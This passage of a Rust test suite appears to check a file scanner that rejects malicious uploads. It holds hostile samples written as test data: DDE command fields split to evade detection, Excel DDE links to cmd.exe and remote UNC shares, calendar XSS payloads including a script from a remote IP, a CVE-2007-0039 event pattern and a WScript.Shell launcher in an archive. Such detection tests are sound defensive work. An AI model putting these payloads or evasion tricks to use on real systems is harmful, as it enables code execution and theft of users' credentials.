    check(&build::gzip(&zipped), false);
    check(&build::gzip(&build::gzip(&zipped)), false);
    // Nobody looks into this one here.
    check(
        b"\x04\x22\x4d\x18 and the rest of a frame of LZ4, which is no text \0\x01\x02\x03",
        false,
    );
}

#[test]
fn a_field_of_dde_is_told_from_an_index_that_names_it() {
    let check = |document: &str, passes: bool| {
        let octets = build::ooxml(&[("word/document.xml", document.as_bytes())]);
        let rules = refusing("a.docx", BINARY, &octets, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{document}: {rules:?}");
    };
    let mark = |kind: &str| format!("<w:fldChar w:fldCharType=\"{kind}\"/>");
    let text = |text: &str| format!("<w:instrText xml:space=\"preserve\">{text}</w:instrText>");
    let field = |inner: &str| format!("{}{inner}{}", mark("begin"), mark("end"));
    let index = [" XE \"dde overview\" ", " XE \"PowerShell: cmd\" "];
    let index: String = index.iter().map(|entry| field(&text(entry))).collect();
    check(&index, true);
    check(
        &format!("{index}{}", field(&text(" DDE cmd \"/c calc\" "))),
        false,
    );
    // In pieces, behind a field before or within, and without a mark.
    check(&field(&(text(" D") + &text("dE cmd \"/c calc\""))), false);
    check(
        &(field(&text("SET a b")) + &field(&text("DDE cmd a"))),
        false,
    );
    check(
        &field(&(text("D") + &field(&text("SET a b")) + &text("DE cmd a"))),
        false,
    );
    check(&field(&(text("DDE ") + &field(&text("QUOTE cmd")))), false);
    check(&(text("XE \"dde\"") + &text("XE \"cmd\"")), true);
    check(&text("DDE cmd \"/c calc\""), false);
    let other = "<a:fldChar a:fldCharType=\"begin\"/>";
    check(
        &format!("{other}{}{}", text("XE "), text("DDE cmd a")),
        false,
    );
    check(&format!("{other}{}{}", text("D"), text("DE cmd a")), false);
    check(&(mark("begin") + &text("DDE cmd a")), false);
    check("<w:fldSimple w:instr=\" DDE cmd a\"/>", false);
}

#[test]
fn a_workbook_may_ask_another_and_no_program_behind_it() {
    let check = |service: &str, topic: &str, passes: bool| {
        let link = format!(
            "<externalLink><ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"><ddeItems/></ddeLink></externalLink>"
        );
        let octets = build::ooxml(&[("xl/externalLinks/externalLink1.xml", link.as_bytes())]);
        let rules = refusing("a.xlsx", BINARY, &octets, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{service} {topic}: {rules:?}");
    };
    check("MSExcel", "Book2.xlsx", true);
    check("MSExcel", r"C:\Kurse\[Book2.xls]Tabelle 1", true);
    check("Excel", "Book2.xlsx", true);
    check(
        "MSExcel",
        r"\..\..\..\Windows\System32\cmd.exe /c calc",
        false,
    );
    check("MSExcel", r"..\..\cmd.exe /c calc.xlsx", false);
    check("MSExcel", r"\\203.0.113.1\a\Book2.xlsx", false);
    check("MSExcel", r"C:\a\cmd.exe [a.exe]b.xlsx", false);
    check("MSExcel", "System", false);
    check("cmd", "Book2.xlsx", false);
    check("cmd.exe", "/c calc", false);
}

#[test]
fn an_appointment_may_speak_of_scripts_and_name_a_document_on_a_server() {
    let check = |lines: &str, passes: bool| {
        let octets = calendar(lines);
        let rules = refusing("a.ics", "text/calendar", &octets, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{lines}: {rules:?}");
    };
    for honest in [
        "SUMMARY:Pentest-Ergebnis: <script> im Suchfeld\\, neu\r\n",
        "SUMMARY:Why does <Button onClick={save}> fire twice?\r\n",
        "DESCRIPTION:<Button onClick={this.save} /> or <b onClick={save}/>\r\n",
        "ATTACH:file://srv01/agenda/Agenda.docx\r\n",
        "BEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\nATTACH:\\\\srv01\\a\\Agenda.PDF\r\n",
    ] {
        check(honest, true);
    }
    for attack in [
        "SUMMARY:<script>alert(1)</script>\r\n",
        "SUMMARY:<script>alert(1)//\r\n",
        "SUMMARY:<script> <script src=//203.0.113.1/a>\r\n",
        "SUMMARY:<script>alert`1`\r\n",
        "DESCRIPTION:<svg><animate onrepeat=alert(1)>\r\n",
        "DESCRIPTION:<b onclick={save}alert(1)>\r\n",
        "DESCRIPTION:<b onclick={alert(1)}>\r\n",
        "DESCRIPTION:<b onclick={save} onload=alert(1)>\r\n",
        "X-ALT-DESC;FMTTYPE=text/html:<script> im Suchfeld\r\n",
        "X-ALT-DESC;FMTTYPE=text/html:<b onclick={save}>\r\n",
        "STYLED-DESCRIPTION;FMTTYPE=text/html:<script>a\r\n",
        "ATTACH:file://203.0.113.1/a/b.wav\r\n",
        "ATTACH:file://srv01/a/b.exe\r\n",
        "BEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:\\\\203.0.113.1\\a.pdf\r\nEND:VALARM\r\n",
        // As CVE-2007-0039 was exploited: the second list, longer than the first, in an event of its own.
        "X-MICROSOFT-CDO-MODPROPS:A\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-MICROSOFT-CDO-MODPROPS:A,B,C\r\n",
    ] {
        check(attack, false);
    }
}

#[test]
fn a_script_in_an_archive_that_only_looks_like_a_document_inside_is_refused() {
    let office = ["[Content_Types].xml", "_rels/.rels"];
    let book = ["mimetype", "META-INF/manifest.xml"];
    for (parts, name, passes) in [
        (office, "invoice.zip", false),
        (book, "invoice.zip", false),
        (office, "invoice", false),
        (book, "invoice.epub.zip", false),
        (office, "addin.docx", true),
        (book, "book.EPUB", true),
        (book, "paper.odt", true),
    ] {
        let script = Entry::new("invoice.js", b"alert(1)");
        let zip = build::zip(&[
            Entry::new(parts[0], b"<a/>"),
            Entry::new(parts[1], b"<a/>"),
            script,
        ]);
        let rules = refusing(name, BINARY, &zip, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{name}: {rules:?}");
    }
}

#[test]
fn a_script_for_windows_is_not_hidden_by_the_files_around_it() {
    let names: Vec<String> = (0..250).map(|nth| format!("src/{nth}.txt")).collect();
    let rules = |script: &[u8], count: usize| {
        let around = names.iter().take(count);
        let mut entries: Vec<Entry<'_>> = around.map(|name| Entry::new(name, b"x")).collect();
        entries.push(Entry::new("invoice.js", script));
        refusing("a.zip", BINARY, &build::zip(&entries), Level::Default)
    };
    let host = b"var shell = new ActiveXObject('WScript.Shell'); shell.Run('calc');";
    assert!(!rules(host, 30).is_empty());
    assert_eq!(rules(host, 250), [""; 0]);
    assert_eq!(rules(b"alert(1);", 30), [""; 0]);
    assert!(!rules(b"alert(1);", 3).is_empty());
}
